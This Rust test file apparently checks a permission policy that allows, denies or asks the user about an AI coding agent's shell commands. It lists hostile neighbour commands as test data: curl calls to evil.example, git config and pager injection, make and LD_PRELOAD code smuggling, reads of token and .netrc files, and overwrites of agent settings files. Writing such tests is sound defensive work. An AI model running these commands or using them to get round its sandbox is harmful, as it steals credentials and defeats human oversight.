//! Tests of what agents write most often, which a rule covers although its prefix does not name every option, each with
//! its hostile neighbours. The agent works in `/work`: `link` leads elsewhere, and the settings of `hostile` name a
//! program.

use std::path::Path;
use std::sync::LazyLock;

use serde_json::json;

use super::{Allow, AskUser, Decision, Deny, decide, each_is, roots, sound};
use crate::Call;
use crate::places::Places;
use crate::programs::repository::Repository;

static PLACES: LazyLock<Places> = LazyLock::new(|| Places::of(roots()));

/// Checks the decision on each line, where these prefixes are allowed and `rm` and `cargo publish` are denied.
#[track_caller]
fn all(prefixes: &[&str], expected: Decision, lines: &[&str]) {
    let prefixes = prefixes.iter().map(|prefix| format!("'{prefix}'")).collect::<Vec<_>>().join(", ");
    let policy = sound(&format!(
        "[[rule]]\ntoolName = 'Bash'\ndecision = 'allow'\npriority = 100\ncommandPrefix = [{prefixes}]\n\
         [[rule]]\ntoolName = 'Bash'\ndecision = 'deny'\npriority = 200\ncommandPrefix = ['rm', 'cargo publish']\n"
    ));
    each_is(expected, lines, |line| {
        decide(&policy, "Bash", json!({ "command": line }), |call| Call {
            places: &PLACES,
            real_path: &|path| path.starts_with("/work/link").then(|| "/elsewhere".into()),
            repository: &|path| match path == Path::new("/work/hostile") {
                true => Repository::Starts("core.fsmonitor".to_owned()),
                false => Repository::Plain,
            },
            ..call
        })
    });
}

#[test]
fn git_in_a_folder_of_the_workspace_is_as_git_behind_a_cd() {
    let rules = ["git status", "git log", "git diff", "git commit", "cd"];
    all(
        &rules,
        Allow,
        &[
            "git -C sub status",
            "git -C ./sub --no-pager log --oneline",
            "git -C /work/sub diff --stat",
            "git -C sub -C deeper status",
            "cd sub && git -C deeper status",
            "git -c color.ui=never -C sub log",
        ],
    );
    all(
        &rules,
        AskUser,
        &[
            "git -C link status",
            "git -C hostile status",
            "git -C ../x status",
            "git -C sub -C .. status",
            "git -C sub -C /elsewhere status",
            "git -C /elsewhere -C /work status",
            "git -C sub/../../x status",
            "git -C ~ status",
            "git -C '~/x' status",
            "git -C $HOME status",
            "git -C \"$x\" status",
            "git -C '' status",
            "git -C sub push",
            "git -C sub --git-dir=/elsewhere status",
            "git -C sub -c core.fsmonitor=./x status",
            "git -C sub -c core.pager=./x log",
            "git -C sub log --output=x",
            "git -C sub diff --ext-diff",
            "git -C sub diff --no-index /dev/null /home/me/.claude/dm-plz/gateway.token",
            "cd /elsewhere && git -C sub status",
            "cd $x && git -C sub status",
            "git -C sub status > x",
        ],
    );
}

#[test]
fn compose_shows_the_project_of_another_file_of_the_workspace() {
    let rules = ["docker compose ps", "docker compose logs", "docker compose up", "docker compose config"];
    all(
        &rules,
        Allow,
        &[
            "docker compose -f x.yml ps",
            "docker compose -f deploy/x.yml -f y.yml --profile dev -p name logs --tail=5 api",
            "docker compose --file=x.yml config",
            "docker compose up",
        ],
    );
    all(
        &rules,
        AskUser,
        &[
            "docker compose -f x.yml up",
            "docker compose -p name up",
            "docker compose -f /elsewhere/x.yml ps",
            "docker compose -f ../x.yml ps",
            "docker compose -f oci://evil.example/x ps",
            "docker compose -f https://evil.example/x.git ps",
            "docker compose -f .mcp.json -f - ps",
            "docker compose -f \"$x\" ps",
            "docker compose -f x.yml exec api id",
            "docker compose --env-file x ps",
            "docker -H tcp://evil.example compose -f x.yml ps",
            "docker compose -f x.yml config -o x",
        ],
    );
}

#[test]
fn options_that_only_say_how_much_is_shown_stand_in_front_of_a_subcommand() {
    let rules = ["cargo test", "mvn test", "curl https://api.example/x", "npm test"];
    all(
        &rules,
        Allow,
        &[
            "cargo -q test",
            "cargo --locked test --workspace",
            "mvn -q -B test",
            "mvn -ntp test",
            "curl -sSfL https://api.example/x",
            "curl -s -H 'Accept: application/json' https://api.example/x",
        ],
    );
    all(
        &rules,
        AskUser,
        &[
            "cargo -q run",
            "cargo --config build.rustc-wrapper='\"./x\"' test",
            "cargo +evil test",
            "cargo -C ../x test",
            "mvn -q deploy",
            "mvn -q test deploy",
            "mvn -Dexec.executable=sh -q test",
            "mvn -f ../x test",
            "curl -sSfL https://evil.example/x",
            "curl -sSfL https://evil.example https://api.example/x",
            "curl -sSfL https://api.example/x https://evil.example",
            "curl -sSfLo x https://api.example/x",
            "curl -s -H @/home/me/.netrc https://api.example/x",
            "curl -s -H 'Authorization: x' https://api.example/x",
            "curl -s -H \"Accept: $(cat x)\" https://api.example/x",
            "curl -s -X DELETE https://api.example/x",
            "curl -s -x http://evil.example https://api.example/x",
            "curl -sK x https://api.example/x",
        ],
    );
    all(&rules, Deny, &["cargo -q publish", "cargo --locked publish"]);
}

#[test]
fn a_patch_is_only_checked() {
    let rules = ["git apply --check", "git apply --stat"];
    all(
        &rules,
        Allow,
        &[
            "git apply --check x.patch",
            "git apply --stat x.patch",
            "git apply --check --verbose --index a.patch b.patch",
        ],
    );
    all(
        &rules,
        AskUser,
        &[
            "git apply x.patch",
            "git apply --check --no-check x.patch",
            "git apply --stat --apply x.patch",
            "git apply --stat --app x.patch",
            "git apply --check --build-fake-ancestor=.mcp.json x.patch",
            "git apply --check --unsafe-paths x.patch",
            "git apply --check $x",
            "git apply --check /home/me/.claude/dm-plz/gateway.token",
        ],
    );
}

#[test]
fn how_much_make_says_is_no_code() {
    let rules = ["make test", "make"];
    all(&rules[..1], Allow, &["make test V=1", "make test VERBOSE=1", "make -j4 test V=0"]);
    all(
        &rules[..1],
        AskUser,
        &[
            "make test V='$(shell id)'", "make test V!=id", "make test V:=1", "make test V=1 CC=./x",
            "make test SHELL=./x", "make test V=1 deploy", "make test V=", "make test V=$x", "make test .SHELLFLAGS=1",
        ],
    );
}

#[test]
fn what_cargo_watch_and_tox_start_needs_a_rule_of_its_own() {
    let rules = ["cargo watch", "cargo test", "tox", "python -m tox"];
    all(
        &rules,
        Allow,
        &[
            "cargo watch -x test",
            "cargo watch --features x -x test",
            "cargo watch -c -- cargo test",
            "tox",
            "tox -e py312 -- -k x",
        ],
    );
    all(
        &rules,
        AskUser,
        &[
            "cargo watch -x run",
            "cargo watch --features x -x run",
            "cargo watch --features x -x 'run'",
            "cargo watch --features=x -q -c -w src -x run",
            "cargo watch -cqx run",
            "cargo watch -i '*.md' --why --delay 5 -x run",
            "cargo watch --features x -- id",
            "cargo watch --features x id",
            "cargo watch --features -x test -x run",
            "cargo watch --no-restart -x run",
            "cargo -q watch -x run",
            "cargo --locked watch --features x -x run",
            "cargo +nightly watch -x run",
            "cargo watch $x -x run",
            "cargo watch -x 'test; id'",
            "cargo watch -- id",
            "cargo watch id",
            "cargo watch -x test -- id",
            "cargo watch -s id -- cargo test",
            "cargo watch -E LD_PRELOAD=./x -x test",
            "cargo watch --env LD_PRELOAD=./x -x test",
            "cargo watch -x \"$x\"",
            "tox exec -- id",
            "tox exec -e py -- id",
            "tox e -- id",
            "python -m tox exec -- id",
        ],
    );
    all(
        &rules,
        Deny,
        &[
            "cargo watch -- rm x",
            "cargo watch -x publish",
            "cargo watch --features x -x publish",
            "cargo watch --features=x -c -s 'rm x'",
            "cargo watch --features x -- rm x",
            "cargo -q watch -x publish",
            "cargo watch --no-restart -x publish",
            "cargo watch -x test -x publish",
            "cargo watch -s 'rm x'",
            "cargo watch -s id -- rm x",
            "cargo-watch -x publish",
            "tox exec -- rm x",
            "tox exec -e py -- rm -rf x",
            "python -m tox exec -- rm x",
        ],
    );
}

#[test]
fn a_toolchain_in_front_hides_nothing() {
    let rules = ["cargo +nightly watch", "cargo +nightly test", "cargo test"];
    all(&rules, Allow, &["cargo +nightly test", "cargo +nightly watch -- cargo test"]);
    all(
        &rules,
        AskUser,
        &["cargo +nightly watch -x run", "cargo +nightly watch -- id", "cargo +nightly build", "cargo +$x publish"],
    );
    all(
        &rules,
        Deny,
        &["cargo +nightly publish", "cargo +nightly watch -x publish", "cargo +nightly watch --features x -- rm x"],
    );
    let everything = sound(
        "[[rule]]\ntoolName = 'Bash'\ndecision = 'allow'\npriority = 1\n\
         [[rule]]\ntoolName = 'Bash'\ndecision = 'deny'\npriority = 2\ncommandPrefix = ['rm', 'cargo publish']\n",
    );
    each_is(Deny, &["cargo +nightly publish", "cargo +nightly watch -- rm x"], |line| super::bash(&everything, line));
}

#[test]
fn what_an_archive_becomes_is_written_whichever_program_unpacks_it() {
    let rules = ["brotli", "python3 -m gzip", "python3 -m zipfile", "python3 -m tarfile", "gzip"];
    all(
        &rules,
        Allow,
        &["brotli -d a.json.br", "python3 -m gzip -d a.json.gz", "python3 -m zipfile -l a.zip", "brotli -t x.br"],
    );
    all(
        &rules,
        AskUser,
        &[
            "brotli -d .mcp.json.br",
            "brotli --decompress .claude/settings.json.br",
            "brotli -d -o .mcp.json x.br",
            "brotli -dS .x .mcp.json.x",
            "brotli -d \"$x.br\"",
            "python3 -m gzip -d .mcp.json.gz",
            "python3 -m gzip -d .claude/settings.json.gz",
            "python -m gzip --decompress /home/me/.claude/dm-plz/policy.toml.gz",
            "python3 -Im gzip -d .mcp.json.gz",
            "python3 -m zipfile -e a.zip .",
            "python3 -m tarfile -e a.tar /home/me",
            "python3 -m zipfile -c .mcp.json x",
        ],
    );
}

#[test]
fn a_commit_that_git_names_is_no_option() {
    let rules = ["git log", "git diff", "git show", "git merge-base", "git rev-parse", "echo", "cat", "git fetch"];
    all(
        &rules,
        Allow,
        &[
            "git log $(git merge-base main HEAD)..HEAD",
            "git log --oneline \"$(git merge-base main HEAD)..HEAD\"",
            "git diff $(git merge-base main HEAD)",
            "git diff --stat \"$(git merge-base origin/main HEAD)\"...HEAD -- src",
            "git diff `git merge-base main HEAD`",
            "git show $(git rev-parse HEAD)",
            "git show --stat \"$(git rev-parse --short HEAD~3)\"",
            "git diff \"main..$(git rev-parse HEAD)\"",
            "base=$(git merge-base main HEAD 2>/dev/null); git diff \"$base\"",
        ],
    );
    all(
        &rules,
        AskUser,
        &[
            "git log $(git rev-parse --output=x)",
            "git log $(git rev-parse -- --output=x)",
            "git log $(git rev-parse x)",
            "git log $(git merge-base -h)",
            "git log $(git merge-base main \"$x\")",
            "git log $(echo --output=x)",
            "git log $(git log --format=%s -1)",
            "git log $(git rev-parse HEAD; echo --output=x)",
            "git log $(git rev-parse HEAD 2>&1)",
            "git log $(git rev-parse HEAD)--output=x",
            "git log $(git rev-parse HEAD)$(echo --output=x)",
            "git log $(git rev-parse HEAD)$x",
            "git log -n $(git rev-parse HEAD) --output=x",
            "git() { echo --output=x; }; command git log $(git rev-parse HEAD)",
            "git log $(PATH=. git rev-parse HEAD)",
            "git log $(git -c alias.y=x rev-parse HEAD)",
            "git log $(git -C hostile rev-parse HEAD)",
            "cd hostile && git log $(git rev-parse HEAD)",
            "base=$(git merge-base a b); base=--output=x; git log \"$base\"",
            "git fetch $(git rev-parse HEAD)::x",
            "git diff --no-index \"$(git rev-parse HEAD)\" x",
            "git diff --no-ind $(git rev-parse HEAD) x",
            "git diff /$(git rev-parse HEAD) x",
            "git diff ../..$(git rev-parse HEAD) x",
            "git log $(git merge-base main HEAD)..HEAD > x",
        ],
    );
    all(&rules, Deny, &["git log $(git rev-parse HEAD; rm x)", "git log $(git rev-parse HEAD) && rm x"]);
}

#[test]
fn that_a_failure_ends_the_line_needs_no_rule() {
    let rules = ["cargo test", "git log"];
    all(
        &rules,
        Allow,
        &[
            "set -e; cargo test",
            "set -euo pipefail\ncargo test | cargo test",
            "set -o pipefail && cargo test",
            "set -o errexit -o nounset; cargo test",
        ],
    );
    all(
        &rules,
        AskUser,
        &[
            "set -e",
            "set -k; cargo test",
            "set -a; cargo test",
            "set -o noglob; cargo test",
            "set -o posix; cargo test",
            "set -e -- --output=x; git log \"$1\"",
            "set -- x; cargo test",
            "set -e $x; cargo test",
            "set -o; cargo test",
            "set +e x; cargo test",
            "set -x; cargo test",
            "set -e > x; cargo test",
            "set -e; id",
        ],
    );
    all(&rules, Deny, &["set -e; rm x", "set -eu || rm x"]);
}

#[test]
fn git_pages_by_cat_where_cat_is_allowed() {
    all(&["git log", "cat"], Allow, &["git -c core.pager=cat log", "git -c core.pager=cat -c color.ui=never log -p"]);
    all(&["git log"], AskUser, &["git -c core.pager=cat log"]);
    all(
        &["git log", "cat"],
        AskUser,
        &[
            "git -c core.pager=./cat log",
            "git -c core.pager='cat x' log",
            "git -c core.pager='cat;id' log",
            "git -c core.pager= log",
            "git -c core.pager=cat -c alias.log='!id' log",
            "git -c core.editor=cat log",
            "git -c pager.log=cat log",
        ],
    );
}
